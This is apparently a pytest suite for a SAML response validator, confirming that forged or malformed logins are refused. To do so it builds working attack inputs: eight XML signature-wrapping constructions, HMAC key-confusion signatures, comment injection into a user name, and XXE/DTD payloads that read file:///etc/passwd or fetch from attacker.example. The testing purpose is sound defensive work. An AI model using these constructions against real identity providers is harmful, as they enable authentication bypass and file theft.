"""A SAML response counts only for what the identity provider signed (threats S-01 to S-03)."""

from __future__ import annotations

import subprocess
import sys
from base64 import b64decode, b64encode
from typing import TYPE_CHECKING

import pytest
from lxml import etree
from signxml.algorithms import DigestAlgorithm, SignatureMethod

from idp.adapters.saml.refused import SamlRefused
from idp.adapters.saml.response import judge
from tests.support.saml_idp import (
    DSIG,
    IDP,
    NAMES,
    PROTOCOL,
    SAML,
    Answer,
    encrypted,
    expected,
    key_pair,
    posted,
    response,
    signed,
    text,
)

if TYPE_CHECKING:
    from collections.abc import Callable

    from lxml.etree import _Element

EVIL = Answer(name_id="attacker", assertion_id="_evil", response_id="_evil-response")


def _refused(value: str, reason: str, **changes: object) -> None:
    with pytest.raises(SamlRefused) as refused:
        judge(value, expected(**changes))
    assert reason in refused.value.detail


@pytest.mark.parametrize("sign", ["assertion", "response", "both"])
def test_a_response_signed_in_any_of_the_three_ways_counts(sign: str) -> None:
    """Keycloak signs the response, Okta both, Entra the assertion, AD FS what its admin chose."""
    found = judge(response(sign=sign, attributes={"email": ["ada@corp.example"], "other": ["x"]}), expected())
    assert (found.name_id, found.session_index, found.attributes) == ("person-1", "session-1", {"email": ["ada@corp.example"]})


@pytest.mark.parametrize("method", [SignatureMethod.RSA_SHA512, SignatureMethod.SHA256_RSA_MGF1])
def test_stronger_algorithms_count(method: SignatureMethod) -> None:
    assert judge(posted(Answer().around(text(signed(Answer().assertion, method=method)))), expected()).name_id == "person-1"


def test_an_elliptic_curve_counts() -> None:
    pair = key_pair("curve", kind="ec")
    signature = signed(Answer().assertion, pair, method=SignatureMethod.ECDSA_SHA256)
    assert judge(posted(Answer().around(text(signature))), expected(certificates=[pair.der])).name_id == "person-1"


def test_each_of_several_certificates_counts_so_that_keys_can_roll_over() -> None:
    old, new = key_pair("old"), key_pair("new")
    for pair in (old, new):
        assert judge(response(by=pair), expected(certificates=[old.der, new.der])).name_id == "person-1"
    _refused(response(by=old), "no certificate", certificates=[new.der])


@pytest.mark.parametrize("sign", ["none", "response"])
def test_an_assertion_without_a_signature_of_its_own_is_refused_where_one_is_asked_for(sign: str) -> None:
    _refused(response(sign=sign), "not signed", signed_assertion=True)


def test_a_response_without_a_signature_is_refused() -> None:
    _refused(response(sign="none"), "not signed")


def test_a_response_signed_by_another_key_is_refused_also_if_it_brings_its_certificate() -> None:
    """S-02: the key is pinned, and KeyInfo is not read (D-04)."""
    for sign in ("assertion", "response", "both"):
        _refused(response(by=key_pair("attacker"), sign=sign), "no certificate")


def test_one_wrong_signature_of_two_is_refused() -> None:
    inner = text(signed(Answer().assertion, key_pair("attacker")))
    _refused(posted(signed(Answer().around(inner))), "no certificate")
    inner = text(signed(Answer().assertion))
    _refused(posted(signed(Answer().around(inner), key_pair("attacker"))), "no certificate")


def test_a_changed_assertion_is_refused() -> None:
    for sign in ("assertion", "response", "both"):
        changed = b64decode(response(sign=sign)).replace(b"person-1", b"attacker")
        _refused(posted(changed), "no certificate")


@pytest.mark.parametrize(
    ("method", "digest"),
    [
        (SignatureMethod.RSA_SHA1, DigestAlgorithm.SHA256),
        (SignatureMethod.RSA_SHA256, DigestAlgorithm.SHA1),
        (SignatureMethod.RSA_SHA224, DigestAlgorithm.SHA256),
    ],
)
def test_a_weak_algorithm_is_refused(method: SignatureMethod, digest: DigestAlgorithm) -> None:
    _refused(posted(Answer().around(text(signed(Answer().assertion, method=method, digest=digest)))), "no certificate")


def test_a_mac_under_the_public_certificate_is_refused() -> None:
    """HMAC confusion: the certificate is public, so a MAC under it proves nothing."""
    for key in (b64decode(key_pair().der), key_pair().der.encode()):
        made = signed(Answer().assertion, method=SignatureMethod.HMAC_SHA256, key=key, key_info=False)
        _refused(posted(Answer().around(text(made))), "no certificate")


def test_a_key_that_is_too_short_is_refused() -> None:
    weak = key_pair("weak", bits=1024)
    _refused(response(by=weak), "too weak", certificates=[weak.der])


def _wrap(number: int) -> _Element:
    """The signature wrapping attacks of Somorovsky et al., "On Breaking SAML" (USENIX Security 2012), table 1."""
    good = signed(Answer().assertion)
    whole = signed(Answer().around(Answer().assertion)) if number <= 2 else etree.fromstring(Answer().around(text(good)))
    evil = etree.fromstring(EVIL.assertion)
    inside, wrapper = whole.find("saml:Assertion", NAMES), etree.Element("Wrapper")
    signature = whole.find(".//ds:Signature", NAMES)
    if number in {1, 2}:  # a copy of the response, in the signature or beside it
        copy = etree.fromstring(text(whole))
        fake = etree.fromstring(EVIL.around(EVIL.assertion))
        issuer = fake.find("saml:Issuer", NAMES)
        moved = copy.find("ds:Signature", NAMES)
        copy.remove(moved)
        issuer.addnext(moved)
        if number == 1:
            etree.SubElement(moved, f"{{{DSIG}}}Object").append(copy)
        else:
            moved.addprevious(copy)
        return fake
    if number == 3:  # the forged assertion before the signed one
        inside.addprevious(evil)
    elif number == 4:  # the forged one around the signed one
        whole.replace(inside, evil)
        evil.append(inside)
    elif number == 5:  # the forged one with the signature, the signed one behind
        inside.remove(signature)
        evil.insert(1, signature)
        whole.replace(inside, evil)
        evil.addnext(inside)
    elif number == 6:  # the signed one in the signature of the forged one
        inside.remove(signature)
        whole.replace(inside, evil)
        evil.insert(1, signature)
        signature.append(inside)
    elif number == 7:  # extensions with the forged one
        extensions = etree.Element(f"{{{PROTOCOL}}}Extensions")
        extensions.append(evil)
        inside.addprevious(extensions)
    else:  # 8: the signed one in an object of the signature of the forged one
        inside.remove(signature)
        whole.replace(inside, evil)
        evil.insert(1, signature)
        etree.SubElement(signature, f"{{{DSIG}}}Object").append(wrapper)
        wrapper.append(inside)
    return whole


@pytest.mark.parametrize("number", range(1, 9))
def test_signature_wrapping_is_refused(number: int) -> None:
    """S-01, XSW 1 to 8: a signed element and a forged one in one document."""
    _refused(posted(_wrap(number)), "not exactly one assertion")


def test_two_elements_with_one_id_are_refused() -> None:
    """The signature of the one would be taken for that of the other."""
    whole = etree.fromstring(Answer().around(text(signed(Answer().assertion))))
    whole.set("ID", "_assertion")
    _refused(posted(whole), "the same id")


def _with_reference(change: Callable[[_Element], None]) -> str:
    """A response whose signature was changed."""
    whole = etree.fromstring(Answer().around(text(signed(Answer().assertion))))
    change(whole)
    return posted(whole)


def test_the_signature_of_another_element_is_refused() -> None:
    """It verifies, but it says nothing about the assertion that contains it."""
    other = signed(f'<saml:Advice xmlns:saml="{SAML}" ID="_advice"><saml:Issuer>{IDP}</saml:Issuer></saml:Advice>')
    moved = other.find("ds:Signature", NAMES)
    evil = etree.fromstring(EVIL.assertion)
    evil.insert(1, moved)
    _refused(posted(EVIL.around(text(evil))), "refers to another element")


@pytest.mark.parametrize("uri", ["", "#_response", "#xpointer(/)", "https://attacker.example/x", "file:///etc/passwd"])
def test_a_reference_that_is_not_the_id_of_its_element_is_refused(uri: str) -> None:
    value = _with_reference(lambda whole: whole.find(".//ds:Reference", NAMES).set("URI", uri))
    _refused(value, "refers to another element")


def test_several_references_are_refused() -> None:
    def twice(whole: _Element) -> None:
        reference = whole.find(".//ds:Reference", NAMES)
        reference.addnext(etree.fromstring(etree.tostring(reference)))

    _refused(_with_reference(twice), "Reference: 2")


@pytest.mark.parametrize(
    "algorithm", ["http://www.w3.org/TR/1999/REC-xslt-19991116", "http://www.w3.org/TR/1999/REC-xpath-19991116", DSIG + "base64"]
)
def test_a_transform_that_chooses_what_is_signed_is_refused(algorithm: str) -> None:
    def add(whole: _Element) -> None:
        etree.SubElement(whole.find(".//ds:Transforms", NAMES), f"{{{DSIG}}}Transform", {"Algorithm": algorithm})

    _refused(_with_reference(add), "other transforms")


def test_a_canonical_form_with_comments_is_refused() -> None:
    def with_comments(whole: _Element) -> None:
        for each in whole.iter():
            if each.get("Algorithm", "").endswith("xml-exc-c14n#"):
                each.set("Algorithm", each.get("Algorithm") + "WithComments")

    _refused(_with_reference(with_comments), "other transforms")


def test_an_object_in_a_signature_is_refused() -> None:
    value = _with_reference(lambda whole: whole.find(".//ds:Signature", NAMES).append(etree.Element(f"{{{DSIG}}}Object")))
    _refused(value, "a signature has an object")


def test_a_comment_in_a_name_does_not_cut_it_off() -> None:
    """S-03: the signature covers no comments, so anybody can add one. The whole name counts, and not its first part."""
    good = b64decode(response(name_id="admin.attacker.example"))
    found = judge(posted(good.replace(b"admin.attacker", b"admin<!-- x -->.attacker")), expected())
    assert found.name_id == "admin.attacker.example"


def test_character_data_in_a_name_joins_it() -> None:
    good = b64decode(response(name_id="admin.attacker.example"))
    assert judge(posted(good.replace(b"admin.", b"<![CDATA[admin.]]>")), expected()).name_id == "admin.attacker.example"


@pytest.mark.parametrize(
    "start",
    [
        '<!DOCTYPE r [<!ENTITY x "boom">]>',
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE r SYSTEM "https://attacker.example/x.dtd">',
        "<!DOCTYPE r [<!ATTLIST saml:Assertion ID ID #IMPLIED>]>",
        '<!DOCTYPE r [<!ENTITY % x SYSTEM "https://attacker.example/x"> %x;]>',
    ],
)
def test_a_dtd_is_refused_before_it_is_parsed(start: str) -> None:
    _refused(posted(start.encode() + b64decode(response())), "DTD")


def test_another_encoding_does_not_hide_a_dtd() -> None:
    document = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x "boom">]><r/>'
    _refused(posted(document.encode("utf-16")), "not UTF-8")
    _refused(posted(document.encode()), "DTD")
    utf7 = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r +AFs-+AFs-+AD4-<r/>'
    _refused(posted(utf7.encode()), "not XML")


def test_a_processing_instruction_is_refused() -> None:
    _refused(posted(b64decode(response(sign="none")).replace(b"person-1", b"person-1<?x y?>")), "processing instruction")


def test_a_huge_document_is_refused() -> None:
    _refused(posted(b"<a>" + b"x" * 70_000 + b"</a>"), "too long")
    _refused(posted(b"<a>" + b"<b/>" * 3001 + b"</a>"), "too many elements")
    _refused(posted(b"<a>" * 40 + b"</a>" * 40), "too many elements")
    _refused(posted(b"<a " + b" ".join(b'a%d=""' % n for n in range(40)) + b"/>"), "too many elements or attributes")


@pytest.mark.parametrize("value", ["", "!", "PHg+", b64encode(b"\x00").decode(), "é", b64encode(b"<a/>").decode()])
def test_what_is_no_response_is_refused(value: str) -> None:
    _refused(value, "")


def test_several_assertions_are_refused() -> None:
    two = text(signed(Answer().assertion)) + text(signed(Answer(assertion_id="_other").assertion))
    _refused(posted(Answer().around(two)), "not exactly one assertion")
    _refused(posted(signed(Answer().around(two))), "not exactly one assertion")
    _refused(posted(signed(Answer().around(""))), "not exactly one assertion")


def test_an_encrypted_assertion_beside_a_plain_one_is_refused() -> None:
    sp = key_pair("sp")
    both = text(signed(Answer().assertion)) + encrypted(signed(EVIL.assertion, key_pair("attacker")), sp)
    _refused(posted(Answer().around(both)), "not exactly one assertion", keys=[sp.pem])


def test_the_function_knows_neither_store_nor_settings() -> None:
    """It parses what strangers send, so it has nothing that they could reach."""
    code = """if True:
        import sys, idp.functions.saml
        print([name for name in sys.modules if name.startswith(("idp.store", "idp.services", "idp.settings", "pynamodb", "botocore"))])
    """
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.strip() == "[]"
